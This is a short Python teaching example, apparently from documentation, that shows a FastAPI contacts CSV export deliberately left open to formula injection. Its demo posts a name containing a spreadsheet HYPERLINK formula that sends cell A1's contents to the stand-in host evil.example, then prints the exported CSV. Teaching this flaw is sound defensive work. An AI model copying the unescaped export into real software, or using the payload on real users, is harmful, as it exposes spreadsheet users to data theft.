"""Mistake: user text goes into the CSV as it is, so a cell can run as a formula."""

# --8<-- [start:app]
import csv
import io
from collections import deque
from typing import Any

from fastapi import FastAPI, Query
from fastapi.responses import Response
from pydantic import BaseModel


class CSVResponse(Response):
    media_type = "text/csv"
    columns: tuple[str, ...] = ()

    def render(self, content: Any) -> bytes:
        out = io.StringIO()
        writer = csv.DictWriter(
            out, fieldnames=self.columns, restval="", extrasaction="ignore"
        )
        writer.writeheader()
        writer.writerows(content)
        return out.getvalue().encode(self.charset)


class Contact(BaseModel):
    name: str
    city: str


class ContactsCSV(CSVResponse):
    columns = tuple(Contact.model_fields)


app = FastAPI()

CONTACTS = deque([Contact(name="Ada", city="London")], maxlen=50)


@app.post("/contacts", status_code=201)
def add_contact(
    name: str = Query(max_length=100), city: str = Query(max_length=100)
) -> Contact:
    contact = Contact(name=name, city=city)
    CONTACTS.append(contact)
    return contact


@app.get("/contacts.csv", response_class=ContactsCSV)
def export_contacts() -> list[Contact]:
    return list(CONTACTS)


# --8<-- [end:app]


if __name__ == "__main__":
    # --8<-- [start:try_it]
    from fastapi.testclient import TestClient

    client = TestClient(app)

    evil = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "city": "Oslo"}
    client.post("/contacts", params=evil)
    export = client.get("/contacts.csv")
    print(export.status_code, export.headers["content-type"])
    #> 200 text/csv; charset=utf-8
    for line in export.text.splitlines():
        print(line)
        #> name,city
        #> Ada,London
        #> "=HYPERLINK(""http://evil.example/?""&A1,""Details"")",Oslo
    # --8<-- [end:try_it]
